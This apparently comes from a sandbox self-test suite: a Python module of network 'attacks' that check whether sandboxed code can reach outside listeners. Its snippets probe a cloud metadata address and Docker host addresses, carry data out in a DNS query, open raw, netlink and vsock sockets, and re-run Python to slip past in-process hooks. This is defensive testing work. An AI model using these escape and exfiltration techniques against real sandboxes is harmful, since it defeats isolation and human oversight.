"""Reaching anything over a socket. The listeners belong to the server's process."""

from __future__ import annotations

import socket

from sandbox.selfcheck.arenas import Arena
from sandbox.selfcheck.model import Attack, Family, Need, Observation
from sandbox.selfcheck.prelude import judge, program, snippet, with_mounts
from sandbox.selfcheck.stage import Stage


def _to_listener(name: str, code: str, family: int, kind: int, where: str) -> Attack:
    """An attack that wants to get through to a listener; `where` is the form of its address."""

    def function(arena: Arena, stage: Stage) -> Observation:
        path = f"{stage.shared}/{stage.name()}"
        address: tuple[str, int] | str
        match where:
            case "path":
                address = path
            case "abstract":
                address = f"\0{stage.name()}"
            case host:
                address = (host, 0)
        with stage.listen(family, kind, address) as listener:
            target = listener.address
            if isinstance(target, bytes):
                target = target.decode()
            values = {"address": target, "kind": int(kind), "family": int(family), "secret": "attack"}
            if where == "path":
                stage.shared.joinpath(path).chmod(0o777)
            said = judge(arena.run(program(code, **values)), stage)
            return Observation(breach=listener.heard() or said.breach, met=said.met)

    return Attack(
        name=name,
        family=Family.NETWORK,
        function=function,
        settings=with_mounts if where == "path" else None,
    )


_CONNECT = r"""
import socket
port = T["address"][1]
others = "169.254.169.254", "172.17.0.1", "host.docker.internal", "localhost", "::1", "10.0.2.2", "192.0.2.1"
for host in (T["address"][0], *others):
    try:
        with socket.socket(T["family"], T["kind"]) as sock:
            sock.settimeout(0.2)
            sock.connect((host, port))
            breach("connected to", host, port)
            sock.send(b"from the attack")
            break
    except OSError as error:
        held("socket", name_of(error.errno))
"""

_SEND = r"""
import socket
# The question of a resolver, with what is to be carried out in the name.
query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"
for target in (tuple(T["address"][:2]), ("127.0.0.1", 53), ("127.0.0.53", 53), ("169.254.169.254", 53)):
    try:
        with socket.socket(T["family"], T["kind"]) as sock:
            sock.sendto(query, target)
            breach("sent to", *target)
            break
    except OSError as error:
        held("socket", name_of(error.errno))
try:
    # A name in no file, so that the answer can only come from outside; it does not exist there either.
    if socket.getaddrinfo("localhost", 80):
        held("localhost has an address")
except OSError as error:
    held("getaddrinfo", error.errno)
"""

_UNIX = r"""
import socket
try:
    with socket.socket(socket.AF_UNIX, T["kind"]) as sock:
        sock.settimeout(0.5)
        sock.connect(T["address"])
        breach("connected")
        sock.send(b"from the attack")
except OSError as error:
    held("socket", name_of(error.errno))
"""

_ICMP = r"""
import socket
# An echo request with its check sum, to ourselves; whoever answers is the host's network.
packet = b"\x08\x00" + (0xFFFF - 0x0800 - 1).to_bytes(2, "big") + b"\x00\x00\x00\x01"
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            breach("opened an ICMP socket")
            sock.settimeout(0.5)
            sock.sendto(packet, ("127.0.0.1", 0))
            breach("the host answered with", len(sock.recv(200)), "bytes")
            break
    except OSError as error:
        held("socket", name_of(error.errno))
"""

_NETLINK = r"""
import socket, struct
for protocol in (0, 4, 9, 15, 16):
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
            breach("opened a netlink socket of protocol", protocol)
            sock.bind((0, 0))
            sock.settimeout(0.5)
            sock.send(struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0))
            breach("the kernel listed its network interfaces in", len(sock.recv(65536)), "bytes")
            break
    except OSError as error:
        held("socket", name_of(error.errno))
"""

_FAMILIES = r"""
import socket
# Stops at the first that opens: asking for more would load modules into a kernel without walls.
def every():
    for family in range(1, 46):
        for kind in (1, 2, 3, 5):
            try:
                with socket.socket(family, kind, 0):
                    breach("opened a socket of family", family, "kind", kind)
                    return
            except OSError as error:
                held(name_of(error.errno))
every()
"""

_ONE_FAMILY = r"""
import socket
for kind in T["kinds"]:
    try:
        with socket.socket(T["family"], kind, T.get("protocol", 0)):
            breach("opened it")
            break
    except OSError as error:
        held("socket", name_of(error.errno))
"""


def _family(name: str, family: int, kinds: list[int], *needs: Need, protocol: int = 0) -> Attack:
    return snippet(
        name,
        Family.NETWORK,
        _ONE_FAMILY,
        values=lambda stage, arena: {"family": int(family), "kinds": kinds, "protocol": protocol},
        needs=needs,
    )


_SOCKET_PAIR = r"""
import array, socket
# A pair is allowed: event loops need it. It must not become a way to somewhere.
try:
    one, two = socket.socketpair(socket.AF_INET if T["inet"] else socket.AF_UNIX, socket.SOCK_DGRAM)
except (OSError, ValueError) as error:
    held("socketpair", name_of(getattr(error, "errno", 0)))
else:
    for act, args in ((one.connect, (T["address"],)), (one.sendto, (b"from the attack", T["address"]))):
        try:
            act(*args)
        except OSError as error:
            held(act.__name__, name_of(error.errno))
        else:
            breach(act.__name__, "got through")
    one.close()
    two.close()
"""


def _pair(arena: Arena, stage: Stage) -> Observation:
    with stage.listen(socket.AF_UNIX, socket.SOCK_DGRAM, f"\0{stage.name()}") as listener:
        values = {"address": listener.address.decode(), "inet": False}
        said = judge(arena.run(program(_SOCKET_PAIR, **values)), stage)
        return Observation(breach=listener.heard(), met=said.met)


_INTERPRETER = r"""
# Another interpreter, without the hooks and patches that a sandbox inside of Python would have.
code = '''
import socket
with socket.create_connection(("127.0.0.1", %d), 0.5) as sock:
    sock.send(b"from the attack")
''' % T["address"][1]
import subprocess
for program in (sys.executable, os.path.realpath(sys.executable), "/usr/bin/python3", "/proc/self/exe"):
    try:
        done = subprocess.run([program, "-I", "-S", "-c", code], capture_output=True, timeout=3, text=True)
        held("python:", done.stderr.strip().splitlines()[-1] if done.stderr else done.returncode)
    except Exception as error:
        held("exec", name_of(error.errno) if getattr(error, "errno", None) else type(error).__name__)
"""

_STREAM, _DGRAM, _RAW = (int(kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW))
_PACKET, _ALG, _VSOCK, _BLUETOOTH, _XDP = 17, 38, 40, 31, 44

ATTACKS = (
    _to_listener("reach the server's own port (TCP)", _CONNECT, socket.AF_INET, _STREAM, "127.0.0.1"),
    _to_listener("reach the server's own port (TCP over IPv6)", _CONNECT, socket.AF_INET6, _STREAM, "::1"),
    _to_listener(
        "carry data out in a question to a resolver (UDP)", _SEND, socket.AF_INET, _DGRAM, "127.0.0.1"
    ),
    _to_listener("reach a Unix socket with an abstract name", _UNIX, socket.AF_UNIX, _STREAM, "abstract"),
    _to_listener("reach a Unix socket in a mounted folder", _UNIX, socket.AF_UNIX, _STREAM, "path"),
    _to_listener("reach a Unix datagram socket", _UNIX, socket.AF_UNIX, _DGRAM, "abstract"),
    Attack(name="send from one half of a socket pair to the server", family=Family.NETWORK, function=_pair),
    _to_listener("connect from another interpreter", _INTERPRETER, socket.AF_INET, _STREAM, "127.0.0.1"),
    snippet("ping the host (ICMP)", Family.NETWORK, _ICMP, needs=(Need.ROOT,)),
    snippet("ask the kernel for the network's interfaces (netlink)", Family.NETWORK, _NETLINK),
    snippet("open a socket of any family", Family.NETWORK, _FAMILIES),
    _family("open a raw socket", socket.AF_INET, [_RAW], Need.ROOT, protocol=255),
    _family("open a packet socket", _PACKET, [_RAW, _DGRAM], Need.ROOT),
    _family("open a socket to the hypervisor (vsock)", _VSOCK, [_STREAM, _DGRAM]),
    _family("open a socket to the kernel's cryptography", _ALG, [5]),
    _family("open a Bluetooth socket", _BLUETOOTH, [_RAW, _STREAM]),
    _family("open an XDP socket", _XDP, [_RAW], Need.ROOT),
)
